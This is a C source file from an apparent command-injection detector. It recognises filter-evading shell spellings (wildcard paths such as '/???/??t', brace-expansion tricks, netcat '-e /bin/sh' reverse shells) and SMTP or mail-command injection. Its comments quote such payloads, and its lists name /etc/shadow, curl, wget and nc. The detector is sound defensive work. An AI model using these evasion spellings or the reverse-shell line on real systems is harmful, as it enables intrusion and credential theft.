/*
 * detect_shell.c — spellings of a shell command that hide its words from
 * a filter, for the command-injection detector (detect_cmdi.c, which owns
 * the command lists): paths written with wildcards ("/???/??t"), bash's
 * brace expansion ("c{a,oun}t", "{id,}"), netcat handing a shell to the
 * network, and SMTP verbs on a line of their own (a value handed to a
 * mail server). Each takes the value as detect_cmdi.c
 * sees it (lowercase; the shell view where noted) and returns where the
 * form starts, -1 when there is none.
 */
#include "common.h"

#include <fnmatch.h>

#include "logscan/detect_rules.h"

#define MR_SHELL_WORD_MAX 32       /* bytes of one word built or matched */
#define MR_SHELL_GLOB_STARS_MAX 4  /* '*' in a path worth matching */

/* A path spelled with the shell's wildcards that names what payloads
 * ask for: "/bin/ca?", three '?' for "bin" and two before the 't' of
 * "cat", "/et" and '*' then "/passwd". */
long mr_shell_glob_at(const char *v, size_t n)
{
    static const char *const targets[] = {
        "/bin/cat", "/bin/sh", "/bin/bash", "/bin/ls", "/bin/nc", "/bin/busybox",
        "/bin/uname", "/bin/ping", "/usr/bin/id", "/usr/bin/whoami", "/usr/bin/wget",
        "/usr/bin/curl", "/usr/bin/nc", "/usr/bin/python", "/usr/bin/perl", "/usr/bin/cat",
        "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/issue",
    };
    for (size_t i = 0; i < n; i++) {
        if (v[i] != '/' || (i > 0 && !strchr(" ;|&`(\n'\"$=", v[i - 1])))
            continue;
        char token[MR_SHELL_WORD_MAX + 1];
        size_t len = 0;
        bool wild = false;
        while (i + len < n && len < MR_SHELL_WORD_MAX && !mr_cmdi_word_end(v, n, i + len) &&
               v[i + len] != '\'' && v[i + len] != '"') {
            wild = wild || v[i + len] == '?' || v[i + len] == '*';
            token[len] = v[i + len];
            len++;
        }
        token[len] = '\0';
        /* fnmatch backtracks on each '*': a few are all an evasion needs;
         * and the name must keep a letter ("/???/??t"), "/usr/bin/" and
         * a '*' is a directory's listing */
        unsigned stars = 0;
        for (size_t k = 0; k < len; k++)
            stars += token[k] == '*';
        const char *name = (const char *)memrchr(token, '/', len) + 1;
        bool letter = false;
        for (const char *c = name; *c && !letter; c++)
            letter = mr_is_alpha((unsigned char)*c);
        if (!wild || len < 4 || stars > MR_SHELL_GLOB_STARS_MAX || !letter)
            continue;
        for (size_t k = 0; k < MR_ARRAY_LEN(targets); k++)
            if (fnmatch(token, targets[k], FNM_PATHNAME) == 0)
                return (long)i;
    }
    return -1;
}

static bool command_word(const char *w, size_t n)
{
    size_t base = 0;
    for (size_t k = 0; k < n; k++)
        if (w[k] == '/')
            base = k + 1;
    if (memchr(w, '?', n) || memchr(w, '*', n))
        return w[0] == '/' && mr_shell_glob_at(w, n) == 0;
    return mr_cmdi_is_command(w + base, n - base);
}

/* Bash's brace expansion spelling a command: "c{a,oun}t", "{l,-lh}s",
 * "{id,}", "{,echo,x}", "{/?s?/?i?/c?t,}". A list of names has the same
 * braces ("fields={id,name}"), so the group must be glued to a word or
 * hold an empty alternative, which no list does. */
long mr_shell_brace_at(const char *s, size_t n)
{
    for (const char *p = memchr(s, '{', n); p; p = memchr(p + 1, '{', n - (size_t)(p + 1 - s))) {
        size_t open = (size_t)(p - s), close = open + 1;
        while (close < n && s[close] != '}' && s[close] != '{' && close - open < 128)
            close++;
        if (close >= n || s[close] != '}' || !memchr(s + open, ',', close - open))
            continue;
        size_t pre = open, post = close + 1;
        while (pre > 0 && mr_is_alnum((unsigned char)s[pre - 1]) && open - pre < 16)
            pre--;
        while (post < n && mr_is_alnum((unsigned char)s[post]) && post - close < 16)
            post++;
        /* an empty alternative in bash's idiom: first ("{,id}"), or the
         * second of two ("{id,}"); "{id,name,}" is a list with a trailing
         * comma, "\w{2,}" a regular expression's count */
        size_t commas = 0, digits = 0;
        for (size_t k = open + 1; k < close; k++) {
            commas += s[k] == ',';
            digits += mr_is_digit((unsigned char)s[k]);
        }
        if (digits + commas == close - open - 1)
            continue;
        bool empty = s[open + 1] == ',' || (commas == 1 && s[close - 1] == ',');
        if (!empty && pre == open && post == close + 1)
            continue;
        for (size_t a = open + 1; a <= close;) {
            size_t b = a;
            while (b < close && s[b] != ',')
                b++;
            char word[MR_SHELL_WORD_MAX];
            size_t len = 0;
            for (size_t k = pre; k < open && len < sizeof word; k++)
                word[len++] = s[k];
            for (size_t k = a; k < b && len < sizeof word; k++)
                if (!strchr("$'\"", s[k]))
                    word[len++] = s[k];
            for (size_t k = close + 1; k < post && len < sizeof word; k++)
                word[len++] = s[k];
            if (len > 0 && len < sizeof word && command_word(word, len))
                return (long)pre;
            a = b + 1;
        }
    }
    return -1;
}

/* A POP3 or IMAP command line at s[i], with its arguments' grammar:
 * "retr 123", "top 1 2", "apop user <32 hex digits>", "a001 examine
 * inbox" (an IMAP tag of letters and digits, a mailbox verb). */
static bool mail_command_at(const char *s, size_t n, size_t i)
{
    static const char *const numbered[] = {"retr ", "dele ", "top ", "list "};
    size_t e = i;
    while (e < n && s[e] != '\r' && s[e] != '\n')
        e++;   /* the line */
    for (size_t k = 0; k < MR_ARRAY_LEN(numbered); k++) {
        size_t len = strlen(numbered[k]), j = i + len;
        if (e - i <= len || memcmp(s + i, numbered[k], len) != 0)
            continue;
        while (j < e && (mr_is_digit((unsigned char)s[j]) || s[j] == ' '))
            j++;
        return j == e;   /* numbers only: "list 3", not "list of names" */
    }
    if (e - i > 5 && memcmp(s + i, "apop ", 5) == 0) {
        size_t hex = 0;
        for (size_t j = e; j > i && mr_is_xdigit((unsigned char)s[j - 1]); j--)
            hex++;
        return hex == 32;
    }
    size_t tag = i;
    while (tag < e && mr_is_alnum((unsigned char)s[tag]) && tag - i < 8)
        tag++;
    static const char *const imap[] = {" examine ", " select ", " login ", " fetch "};
    bool digits = false;
    for (size_t j = i; j < tag; j++)
        digits = digits || mr_is_digit((unsigned char)s[j]);
    for (size_t k = 0; k < MR_ARRAY_LEN(imap) && digits && tag > i; k++)
        if (e - tag > strlen(imap[k]) && memcmp(s + tag, imap[k], strlen(imap[k])) == 0)
            return true;
    return false;
}

/* SMTP commands on a line of their own, as a value a form hands to its
 * mail server injects them: "\nRCPT TO:<x@y>", "\r\nMAIL FROM:<...>",
 * "\nHELO host" and nothing more on the line. A message that quotes
 * "mail from: bob bounced" has no address in angle brackets. POP3's and
 * IMAP's commands likewise (mail_command_at). */
long mr_smtp_verb_at(const char *s, size_t n)
{
    static const char *const verbs[] = {"mail from:", "rcpt to:"};
    for (const char *p = memchr(s, '\n', n); p; p = memchr(p + 1, '\n', n - (size_t)(p + 1 - s))) {
        size_t i = (size_t)(p - s) + 1;
        for (size_t k = 0; k < MR_ARRAY_LEN(verbs); k++) {
            size_t len = strlen(verbs[k]), j = i + len;
            if (n - i < len || memcmp(s + i, verbs[k], len) != 0)
                continue;
            while (j < n && s[j] == ' ')
                j++;
            if (j < n && s[j] == '<')
                return (long)i;
        }
        if (i < n && mail_command_at(s, n, i))
            return (long)i;   /* POP3 and IMAP after a line break */
        if (n - i > 5 && (memcmp(s + i, "helo ", 5) == 0 || memcmp(s + i, "ehlo ", 5) == 0)) {
            size_t j = i + 5;
            while (j < n && s[j] != ' ' && s[j] != '\r' && s[j] != '\n')
                j++;
            if (j > i + 5 && (j == n || s[j] == '\r' || s[j] == '\n'))
                return (long)i;   /* the verb and one host name, then the line's end */
        }
        if (i >= n)
            break;
    }
    return -1;
}

/* A shell or interpreter named at v[i], by its path or not: "sh",
 * "/bin/bash", "cmd.exe", "powershell". */
static bool shell_program(const char *v, size_t n, size_t i)
{
    static const char *const shells[] = {"sh", "bash", "dash", "zsh", "ksh", "csh", "cmd",
                                         "powershell", "python", "python3", "perl"};
    size_t e = i, base = i;
    while (e < n && !mr_cmdi_word_end(v, n, e) && e - i < 64) {
        if (v[e] == '/' || v[e] == '\\')
            base = e + 1;
        e++;
    }
    size_t len = e - base;
    if (len > 4 && memcmp(v + e - 4, ".exe", 4) == 0)
        len -= 4;
    return mr_word_in_list(v + base, len, shells, MR_ARRAY_LEN(shells));
}

/* netcat handing a shell to the network: "nc 10.0.0.1 4444 -e /bin/sh",
 * "ncat -lvp 9001 -e cmd.exe"; the options of one command, in order, and
 * -e or -c naming a shell ("nc -e option removed" is a changelog). */
long mr_shell_netcat_at(const char *v, size_t n)
{
    static const char *const programs[] = {"nc", "ncat", "netcat", "nc.traditional"};
    for (size_t i = 0; i + 2 < n; i++) {
        if (v[i] != 'n' || (i > 0 && (mr_is_alnum((unsigned char)v[i - 1]) || v[i - 1] == '-')))
            continue;
        size_t e = i;
        while (e < n && (mr_is_alnum((unsigned char)v[e]) || v[e] == '.'))
            e++;
        if (e >= n || v[e] != ' ' || !mr_word_in_list(v + i, e - i, programs, MR_ARRAY_LEN(programs)))
            continue;
        for (size_t j = e; j + 3 < n && !strchr(";|&\n`", v[j]); j++)
            if (v[j] == ' ' && v[j + 1] == '-' && (v[j + 2] == 'e' || v[j + 2] == 'c') &&
                v[j + 3] == ' ' && shell_program(v, n, j + 4))
                return (long)i;
    }
    return -1;
}
